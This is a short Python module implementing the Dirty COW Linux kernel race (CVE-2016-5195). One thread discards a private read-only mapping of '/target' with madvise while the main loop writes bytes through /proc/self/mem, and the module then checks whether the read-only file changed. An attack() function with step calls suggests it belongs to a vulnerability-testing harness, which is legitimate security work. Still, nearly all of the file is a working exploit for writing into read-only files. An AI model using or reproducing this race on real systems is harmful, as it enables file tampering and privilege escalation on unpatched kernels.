# SPDX-License-Identifier: Apache-2.0
"""CVE-2016-5195: a race of madvise and a write by /proc/self/mem puts bytes into a file that may only be read."""
import mmap
import os
import threading
import time


def race():
    before = open("/target", "rb").read()
    fd = os.open("/target", os.O_RDONLY)
    memory = mmap.mmap(fd, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    at = next(int(l.split("-")[0], 16) for l in open("/proc/self/maps") if l.rstrip().endswith("/target"))
    end = time.monotonic() + 0.4

    def forget():
        while time.monotonic() < end:
            memory.madvise(mmap.MADV_DONTNEED)

    t = threading.Thread(target=forget)
    t.start()
    try:
        own = os.open("/proc/self/mem", os.O_RDWR)
        while time.monotonic() < end:
            os.pwrite(own, b"COW", at)
        os.close(own)
    finally:
        t.join()
    return open("/target", "rb").read() != before


def attack(a):
    a.step("open it for writing", os.open, "/target", os.O_RDWR)
    a.step("the race", race)
